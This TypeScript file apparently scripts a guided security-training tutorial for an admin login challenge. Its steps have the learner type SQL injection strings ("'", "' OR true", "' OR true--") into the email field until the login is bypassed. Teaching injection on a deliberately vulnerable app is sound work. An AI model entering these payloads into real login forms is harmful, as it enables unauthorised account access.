import { onPage, type Step, step, task, win, withoutPanel, withPanel } from '../steps'
import { clicked, filled, loggedOut, reading, route, typed } from '../waits'
import { account, email, home, loginButton, panelList, password, wayToLogin, wayToLogout } from './anchors'

const refusal = ['#login-form .error', email]

export const loginAdmin: readonly Step[] = [
  task('LOGIN_ADMIN_1', wayToLogout, loggedOut()),
  task('LOGIN_ADMIN_2', wayToLogin, route('login')),
  ...onPage(
    '/login',
    step('LOGIN_ADMIN_3', email, reading(10)),
    task('LOGIN_ADMIN_4', email, typed(email, "'")),
    task('LOGIN_ADMIN_5', password, filled(password)),
    task('LOGIN_ADMIN_6', loginButton, clicked(loginButton)),
    step('LOGIN_ADMIN_7', refusal, reading(15)),
    ...withPanel(step('LOGIN_ADMIN_8_PANEL', panelList, reading(30))),
    ...withoutPanel(step('LOGIN_ADMIN_8', refusal, reading(25))),
    step('LOGIN_ADMIN_9', email, reading(15)),
    task('LOGIN_ADMIN_10', email, typed(email, "' OR true")),
    task('LOGIN_ADMIN_11', loginButton, clicked(loginButton)),
    step('LOGIN_ADMIN_12', refusal, reading(15)),
    step('LOGIN_ADMIN_13', email, reading(15)),
    task('LOGIN_ADMIN_14', email, typed(email, "' OR true--")),
    task('LOGIN_ADMIN_15', loginButton, clicked(loginButton)),
  ),
  win(step('LOGIN_ADMIN_16', home, reading(10))),
  task('LOGIN_ADMIN_17', account, clicked(account)),
  step('LOGIN_ADMIN_18', ['[aria-label="Go to user profile"]', account], reading(15)),
  step('LOGIN_ADMIN_19', home, reading(20)),
]
